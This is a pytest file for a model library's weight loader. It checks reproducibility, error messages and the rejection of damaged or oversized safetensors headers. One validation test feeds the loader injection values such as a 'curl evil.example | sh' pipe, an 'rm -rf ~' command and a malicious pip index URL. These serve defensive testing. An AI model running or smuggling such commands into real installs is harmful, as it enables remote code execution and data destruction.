import resource
import subprocess
import sys
import time

import numpy as np
import pytest
import torch
from safetensors.torch import load_file, save_file

import genkit
from genkit.errors import ComponentError, GenkitError, WeightsError
from genkit.sharing import weights

IN_ANOTHER_PROCESS = """
import sys, numpy as np, genkit
model = genkit.load(sys.argv[1])
x = np.load(sys.argv[2])
z = model.encode(x)
np.savez(sys.argv[3], z=z.numpy(), again=model.encode(x).numpy(), decoded=model.decode(z).numpy())
"""


@pytest.mark.slow
def test_a_new_process_encodes_and_decodes_bit_for_bit_the_same(finished, tmp_path):
    x = finished.data.test.x[:50].numpy()
    np.save(tmp_path / "x.npy", x)
    paths = [str(finished.directory.model), str(tmp_path / "x.npy"), str(tmp_path / "out.npz")]
    subprocess.run([sys.executable, "-c", IN_ANOTHER_PROCESS, *paths], check=True)
    there = np.load(tmp_path / "out.npz")
    z = finished.model.encode(x)
    assert np.array_equal(there["z"], z.numpy())
    assert np.array_equal(there["again"], z.numpy())
    assert np.array_equal(there["decoded"], finished.model.decode(z).numpy())


def test_the_file_alone_rebuilds_the_model_with_its_config_and_data_signature(finished, tmp_path):
    (tmp_path / "alone.safetensors").write_bytes(finished.directory.model.read_bytes())
    model = genkit.load(tmp_path / "alone.safetensors")
    assert model.config == finished.config
    assert model.data.shape == (1, 8, 8)
    assert model.data.range == (0.0, 1.0)
    assert model.data.counts == {"train": 1258, "validation": 180, "test": 359}
    assert not model.training


def test_a_run_directory_loads_like_its_file(finished):
    one, other = genkit.load(finished.directory.path), genkit.load(str(finished.directory.model))
    assert all(torch.equal(a, b) for a, b in zip(one.parameters(), other.parameters(), strict=True))


def test_loading_leaves_the_random_state_alone(finished):
    before = torch.get_rng_state()
    genkit.load(finished.directory.path)
    assert torch.equal(before, torch.get_rng_state())


def test_the_file_is_plain_safetensors_of_the_models_own_parameter_names(finished):
    assert load_file(finished.directory.model).keys() == finished.model.state_dict().keys()


@pytest.mark.parametrize("keep", [0, 4, 100, -10])
def test_a_truncated_file_is_refused_by_name(finished, tmp_path, keep):
    path = tmp_path / "cut.safetensors"
    path.write_bytes(finished.directory.model.read_bytes()[:keep])
    with pytest.raises(WeightsError, match=r"cut\.safetensors.*cut short"):
        genkit.load(path)


def test_a_foreign_file_is_refused_by_name(tmp_path):
    save_file({"w": torch.zeros(3)}, tmp_path / "foreign.safetensors")
    with pytest.raises(WeightsError, match=r"foreign\.safetensors.*not of genkit"):
        genkit.load(tmp_path / "foreign.safetensors")


def test_a_missing_file_is_refused_by_name(tmp_path):
    with pytest.raises(WeightsError, match=r"model\.safetensors: there is no such file"):
        genkit.load(tmp_path)


def test_a_file_of_a_later_format_asks_for_a_later_genkit(altered, finished, tmp_path):
    path = altered(tmp_path / "m.safetensors", finished.directory.model, lambda header: header.update(format=99))
    with pytest.raises(WeightsError, match=r"format 99.*upgrade genkit-torch"):
        genkit.load(path)


@pytest.mark.parametrize(
    "change", [lambda h: h.pop("data"), lambda h: h.update(config=3), lambda h: h.update(format="x")]
)
def test_a_damaged_header_is_refused(altered, finished, tmp_path, change):
    with pytest.raises(WeightsError, match="metadata 'genkit' are damaged"):
        genkit.load(altered(tmp_path / "m.safetensors", finished.directory.model, change))


def test_weights_that_do_not_fit_are_named_with_both_shapes(altered, finished, tmp_path):
    def narrow(header):
        header["config"]["encoder"]["hidden"] = [256, 64]

    path = altered(tmp_path / "m.safetensors", finished.directory.model, narrow)
    with pytest.raises(WeightsError, match=r"4 tensors do not fit.*\(64,\).*\(128,\)"):
        genkit.load(path)


def test_a_component_that_is_not_installed_is_named_with_its_distribution_and_version(altered, finished, tmp_path):
    def foreign(header):
        header["config"]["encoder"] = {"name": "wavelet"}
        header["plugins"].append(
            {"distribution": "genkit-wavelet", "version": "3.1", "components": ["encoder/wavelet"]}
        )

    path = altered(tmp_path / "m.safetensors", finished.directory.model, foreign)
    with pytest.raises(
        ComponentError, match=r"encoder 'wavelet' of genkit-wavelet 3\.1.*pip install 'genkit-wavelet==3\.1'"
    ):
        genkit.load(path)


def test_all_that_is_missing_is_named_with_one_line_that_installs_it(altered, finished, tmp_path):
    def change(header):
        header["config"]["encoder"] = {"name": "wavelet"}
        header["config"]["decoder"] = {"name": "acme/mlp"}
        header["config"]["sampler"] = {"name": "mine"}
        header["plugins"] = [
            {"distribution": "genkit-wavelet", "version": "1.5", "components": ["encoder/wavelet", "loss/kl"]},
            {"distribution": "acme", "version": "2.0", "components": ["decoder/acme/mlp"]},
            {"distribution": "this process", "version": "", "components": ["sampler/mine"]},
        ]

    file = altered(tmp_path / "model.safetensors", finished.directory.model, change)
    with pytest.raises(ComponentError) as caught:
        genkit.load(file)
    assert str(caught.value) == (
        f"{file}: needs encoder 'wavelet' of genkit-wavelet 1.5, and decoder 'acme/mlp' of acme 2.0, and sampler "
        "'mine' of this process, which are not installed; pip install 'genkit-wavelet==1.5' 'acme==2.0'; what was "
        "registered in the process that trained it, register here too (genkit.register)"
    )


def test_an_option_that_is_no_longer_known_is_a_config_error_at_its_place(altered, finished, tmp_path):
    path = altered(
        tmp_path / "m.safetensors", finished.directory.model, lambda h: h["config"]["encoder"].update(widht=3)
    )
    with pytest.raises(GenkitError, match=r"m\.safetensors: encoder: unknown key 'widht'"):
        genkit.load(path)


@pytest.mark.parametrize(
    ("where", "values"),
    [
        ("data", {"source": "\x1b[2J"}),
        ("data", {"source": "a\nerror: b"}),
        ("data", {"source": "<script>"}),
        ("data", {"source": "x" * 300}),
        ("data", {"shape": []}),
        ("data", {"shape": [0]}),
        ("data", {"shape": [-1, 8]}),
        ("data", {"shape": [10**30]}),
        ("data", {"shape": [1] * 1000}),
        ("data", {"range": [0, float("nan")]}),
        ("data", {"range": [0]}),
        ("data", {"classes": [1]}),
        ("data", {"counts": {"<b>": 1}}),
        ("data", {"counts": {"train": -1}}),
        ("plugin", {"distribution": "x' && curl evil.example | sh '"}),
        ("plugin", {"distribution": "--index-url=https://evil.example"}),
        ("plugin", {"distribution": "git+https://evil.example/x"}),
        ("plugin", {"distribution": "x\n"}),
        ("plugin", {"distribution": ""}),
        ("plugin", {"version": "1'; rm -rf ~; '"}),
        ("plugin", {"version": "1 --pre"}),
        ("plugin", {"version": "1\n"}),
        ("plugin", {"components": ["encoder/<b>"]}),
        ("plugin", {"components": ["shell/x"]}),
        ("plugin", {"components": ["encoder/a'\nerror: b"]}),
        ("plugin", {"sha256": "`x`"}),
    ],
)
def test_what_a_header_says_is_checked(altered, finished, tmp_path, where, values):
    def change(header):
        (header["data"] if where == "data" else header["plugins"][0]).update(values)

    path = altered(tmp_path / "m.safetensors", finished.directory.model, change)
    with pytest.raises(WeightsError, match="metadata 'genkit' are damaged") as caught:
        genkit.load(path)
    assert "\n" not in str(caught.value)
    assert "\x1b" not in str(caught.value)


@pytest.mark.parametrize("text", ["[" * 100_000, '{"a":' * 100_000, "1" * 10_000, "nul", "", "[]", "3", '"x"', "NaN"])
def test_odd_json_in_a_header_is_refused(finished, tmp_path, text):
    save_file({"w": torch.zeros(3)}, tmp_path / "m.safetensors", metadata={weights.KEY: text})
    with pytest.raises(WeightsError, match="metadata 'genkit' are damaged"):
        genkit.load(tmp_path / "m.safetensors")


def test_a_config_that_is_nested_too_deeply_or_too_long_is_refused(altered, finished, tmp_path):
    deep = []
    for _ in range(900):
        deep = [deep]
    for value in (deep, ["x" * 2**20]):
        path = altered(tmp_path / "m.safetensors", finished.directory.model, lambda h, v=value: h["config"].update(a=v))
        with pytest.raises(GenkitError):
            genkit.load(path)


GIANTS = {
    "wide": lambda h: h["config"]["encoder"].update(hidden=[30_000, 30_000]),
    "wider than numbers go": lambda h: h["config"]["encoder"].update(hidden=[2**40]),
    "many": lambda h: h["config"]["encoder"].update(hidden=[8] * 20_000),
    "long": lambda h: h["data"].update(shape=[1, 2**16, 2**16]),
    "latents": lambda h: h["config"]["sampler"].update(latent=2**30),
}


@pytest.mark.parametrize("giant", GIANTS)
def test_a_small_file_of_a_giant_takes_no_memory_and_no_time(altered, finished, tmp_path, giant):
    path = altered(tmp_path / "m.safetensors", finished.directory.model, GIANTS[giant])
    before, start = peak(), time.perf_counter()
    with pytest.raises(GenkitError) as caught:
        genkit.load(path)
    assert peak() - before < 2**28
    assert time.perf_counter() - start < 10
    assert "m.safetensors" in str(caught.value)


def peak():
    """The most memory that this process has had, in bytes."""
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024


def test_tied_tensors_are_saved_once_each_and_come_back(tmp_path):
    shared = torch.arange(4.0)
    weights.write_tensors(tmp_path / "t.safetensors", {"a": shared, "b": shared, "c": shared[1:3]}, {})
    tensors, _ = weights.read_tensors(tmp_path / "t.safetensors")
    assert torch.equal(tensors["a"], shared)
    assert torch.equal(tensors["c"], shared[1:3])
